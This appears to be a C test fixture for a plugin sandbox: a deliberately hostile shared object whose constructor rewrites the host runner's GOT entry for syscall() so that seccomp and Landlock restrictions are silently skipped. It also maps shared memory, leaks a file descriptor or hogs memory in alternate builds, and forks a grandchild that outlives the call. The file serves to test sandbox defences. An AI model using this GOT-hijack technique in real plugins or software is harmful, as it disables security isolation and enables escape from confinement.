/* A malicious shared-object plugin for the zygote tests: its constructor
 * takes over the zygote's runner the way the security review showed
 * (rewriting the runner's GOT entry for syscall() so that each spare skips
 * its seccomp call filter and its Landlock domain), and tries to map
 * shared anonymous memory (which calls could fill unaccounted and share).
 * evil_main then forks a child that forks a grandchild meant to outlive
 * the call. Built twice: with LEAK_FD, the constructor only leaves an fd
 * open, which the host must refuse as a zygote; with HOG_MEMORY it holds
 * 256 MiB, which its memory limit must stop even while it loads.
 *
 * evil_main: {"patched": 0|1, "shared_errno": E, "fork_errno": E} */
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <link.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "praxis/plugin.h"

PRAXIS_PLUGIN_DECLARE();

static int patched, shared_errno = -1;
__attribute__((unused)) static char *volatile hoard;
static long (*real_syscall)(long, ...);

__attribute__((unused)) static long hook_syscall(long n, long a, long b, long c, long d, long e,
                                                 long f)
{
	if (n == SYS_seccomp || n == SYS_landlock_restrict_self)
		return 0; /* the spare's call filter and domain: skipped */
	return real_syscall(n, a, b, c, d, e, f);
}

__attribute__((unused)) static int patch_main_program(struct dl_phdr_info *info, size_t size,
                                                      void *data)
{
	(void)size;
	(void)data;
	if (info->dlpi_name[0])
		return 0; /* the main program (the runner) comes first, unnamed */
	ElfW(Dyn) *dyn = NULL;
	for (int i = 0; i < info->dlpi_phnum; i++)
		if (info->dlpi_phdr[i].p_type == PT_DYNAMIC)
			dyn = (ElfW(Dyn) *)(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);
	ElfW(Rela) *rel = NULL;
	size_t relsz = 0;
	ElfW(Sym) *sym = NULL;
	const char *str = NULL;
	for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
		if (dyn->d_tag == DT_JMPREL)
			rel = (ElfW(Rela) *)dyn->d_un.d_ptr;
		if (dyn->d_tag == DT_PLTRELSZ)
			relsz = dyn->d_un.d_val;
		if (dyn->d_tag == DT_SYMTAB)
			sym = (ElfW(Sym) *)dyn->d_un.d_ptr;
		if (dyn->d_tag == DT_STRTAB)
			str = (const char *)dyn->d_un.d_ptr;
	}
	for (size_t i = 0; rel && sym && str && i < relsz / sizeof(*rel); i++) {
		if (strcmp(str + sym[ELF64_R_SYM(rel[i].r_info)].st_name, "syscall") != 0)
			continue;
		void **slot = (void **)(info->dlpi_addr + rel[i].r_offset);
		uintptr_t page = (uintptr_t)slot & ~(uintptr_t)4095;
		if (mprotect((void *)page, 4096, PROT_READ | PROT_WRITE) == 0) {
			real_syscall = (long (*)(long, ...))syscall;
			*slot = (void *)hook_syscall;
			patched = 1;
		}
	}
	return 1;
}

__attribute__((constructor)) static void take_over(void)
{
#if defined(LEAK_FD)
	if (open("/dev/null", O_RDONLY) < 0) /* kept open on purpose */
		abort();
#elif defined(HOG_MEMORY)
	size_t size = 256u << 20; /* kept, touched: over a 64 MiB limit */
	char *m = malloc(size);
	for (size_t i = 0; m && i < size; i += 4096)
		m[i] = 1;
	hoard = m; /* kept: the compiler may not drop it */
#else
	dl_iterate_phdr(patch_main_program, NULL);
	void *m = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	shared_errno = m == MAP_FAILED ? errno : 0;
#endif
}

__attribute__((visibility("default"))) int evil_main(const char *params, char **result)
{
	(void)params;
	pid_t p = fork();
	int fork_errno = p < 0 ? errno : 0;
	if (p == 0) {
		if (fork() == 0) {
			sleep(30);
			_exit(0);
		}
		_exit(0);
	}
	if (p > 0)
		waitpid(p, NULL, 0);
	return asprintf(result, "{\"patched\": %d, \"shared_errno\": %d, \"fork_errno\": %d}",
	                patched, shared_errno, fork_errno) < 0;
}
